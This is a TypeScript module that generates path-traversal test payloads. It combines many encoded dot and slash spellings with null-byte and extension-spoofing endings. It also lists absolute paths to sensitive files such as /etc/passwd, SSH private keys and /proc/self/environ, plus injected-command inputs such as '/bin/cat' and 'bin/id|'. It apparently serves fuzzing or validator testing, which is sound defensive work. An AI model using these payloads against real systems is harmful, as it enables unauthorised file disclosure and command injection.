/**
 * Ways upward as attackers spell them: every spelling of two dots with every spelling of a slash, one to eight times, before
 * a file that is worth reading, with the endings that fool a check of the extension. More than the lists that scanners bring.
 */
const DOTS = [
  '..',
  '%2e%2e',
  '%2E%2E',
  '.%2e',
  '%252e%252e',
  '%c0%ae%c0%ae',
  '%25c0%25ae%25c0%25ae',
  '%uff0e%uff0e',
  '0x2e0x2e',

  '%c0%2e%c0%2e',
  '%%32%65%%32%65',
  '%00..',
  '.%00.',
  '..%00',
  './.',
  './/.',
  '.\\.',
  '.\\\\.',
  '..;',
  '....',
  '\u2025',
];
const SLASHES = [
  '/',
  '\\',
  '%2f',
  '%5c',
  '%252f',
  '%255c',
  '%c0%af',
  '%25c0%25af',
  '%c1%9c',
  '%25c1%259c',
  '%%32%66',
  '%%35%63',
  '%u2215',
  '%u2216',
  '0x2f',
  '0x5c',
  '%c0%2f',
  '%c0%5c',
  '//',
  '\\\\',
  '/\\',
  '\\/',
  '/./',
  ';/',
];
const TIMES = [1, 2, 3, 4, 5, 6, 7, 8];
const ENDINGS = ['', '%00', '%00index.html', ';index.html', '%00.jpg', '^^', '|'];

/** `targets`: what lies where the way upward leads. */
export const traversals = (targets: readonly string[]): string[] =>
  DOTS.flatMap((dots) =>
    SLASHES.flatMap((slash) =>
      TIMES.flatMap((times) =>
        targets.flatMap((target, at) => {
          // Each ending once in a while: all of them would only multiply the same.
          const ending = ENDINGS[(times + at) % ENDINGS.length];
          return [`${(dots + slash).repeat(times)}${target}${ending}`];
        }),
      ),
    ),
  );

/** Ways that need no dots. */
export const absolutes: readonly string[] = [
  '/etc/passwd',
  '//etc/passwd',
  '/etc/passwd%00',
  '/%2e/etc/passwd',
  '/./././etc/passwd',
  '%2fetc%2fpasswd',
  '%00/etc/passwd%00',
  '%0a/bin/cat%20/etc/passwd',
  '/../../bin/id|',
  "\\'/bin/cat%20/etc/passwd\\'",
  'C:\\Windows\\win.ini',
  'C:/boot.ini',
  'c:boot.ini',
  '\\\\host\\share',
  '\\\\?\\C:\\boot.ini',
  '//host/share/a',

  'file:///etc/passwd',
  'file://localhost/etc/passwd',
  '~/.ssh/id_rsa',
  '~root',
  '/proc/self/environ',
  '/dev/stdin',
  '/.../.../',
  '/%2A',
  '.',
  '..',
  '/',
  '\\',
  '%',
  '%2',
  '%zz',
  'CON',
  'NUL.pdf',
  'COM1:',
  'a::$DATA',
  `${'A'.repeat(4_000)}/../../../etc/passwd`,
];
